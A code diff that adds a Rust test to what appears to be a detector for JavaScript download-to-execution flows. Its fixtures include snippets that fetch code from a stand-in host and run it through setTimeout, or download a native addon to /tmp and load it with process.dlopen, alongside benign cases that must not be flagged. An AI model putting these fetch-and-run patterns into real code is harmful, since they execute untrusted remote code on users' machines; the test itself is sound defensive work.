@@ -228,6 +228,21 @@ fn downloads_reaching_exec_through_promises_and_files() {
 }
 
 #[test]
+fn a_download_handed_to_a_timer_or_loaded_as_an_addon_runs() {
+    let timer = kinds_js("const https = require('https');\nhttps.get('https://x.example.invalid/t.js', (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => setTimeout(body, 10));\n});\n");
+    assert_eq!(timer, vec![FlowKind::DownloadToExec]);
+    // A function handed to a timer is called, and nothing downloaded reaches it.
+    let retry = js("const https = require('https');\nfunction ping(u) { https.get(u, (r) => r.resume()).on('error', () => setTimeout(() => ping(u), 500)); }\nconst tick = () => console.log('t');\nsetTimeout(tick, 10);\n");
+    assert!(retry.is_empty(), "{retry:?}");
+    let addon = js("const https = require('https');\nconst fs = require('fs');\nconst dest = '/tmp/x.node';\nhttps.get('https://x.example.invalid/a.node', (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  out.on('finish', () => { const m = { exports: {} }; process.dlopen(m, dest); });\n});\n");
+    assert_eq!(addon.len(), 1, "{addon:?}");
+    assert_eq!(addon[0].0, FlowKind::DownloadToExec);
+    // A shipped prebuilt addon is the package's own code.
+    let shipped = js("const path = require('path');\nconst m = { exports: {} };\nprocess.dlopen(m, path.join(__dirname, 'prebuilds', 'x.node'));\n");
+    assert!(shipped.is_empty(), "{shipped:?}");
+}
+
+#[test]
 fn an_awaited_response_read_in_one_expression_is_a_download() {
     // The grammar reads `await (…)` as a call of a function named `await`.
     for text in [
